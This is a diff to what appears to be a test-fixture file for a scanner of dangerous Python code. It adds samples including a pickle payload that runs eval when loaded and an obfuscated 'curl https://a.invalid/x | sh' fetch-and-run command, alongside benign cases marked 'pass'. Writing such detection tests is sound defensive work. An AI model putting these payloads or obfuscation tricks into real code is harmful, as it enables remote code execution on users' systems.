@@ -97,6 +97,37 @@ loader.load_module("posix").system("curl https://a.invalid/x | sh")
   ),
 ];
 
+/** Objects that are written as bytes, and commands. */
+export const written: readonly Shape[] = [
+  init(
+    'a pickle that a parameter has when nothing is given',
+    `import pickle
+BEGIN = b"\\x80\\x04\\x8c\\x08builtins\\x8c\\x04eval\\x93\\x8c\\x08print(1)\\x85R."
+def begin(state=BEGIN):
+    return pickle.loads(state)
+held = begin()
+`,
+  ),
+  init(
+    'a pickle of a list',
+    `import pickle
+def begin(state=b"\\x80\\x04]\\x94(K\\x01K\\x02e."):
+    return pickle.loads(state)
+held = begin()
+`,
+    'pass',
+  ),
+  init(
+    'a program that a shell finds by itself',
+    `import os\nos.system("$(echo c)url -s https://a.invalid/x | sh")\n`,
+  ),
+  init(
+    'what the shell counts',
+    `def lines(os):\n    return os.popen("$(which cat) notes | wc -l")\n`,
+    'pass',
+  ),
+];
+
 /** What is executed stands somewhere else. */
 export const elsewhere: readonly Shape[] = [
   init(
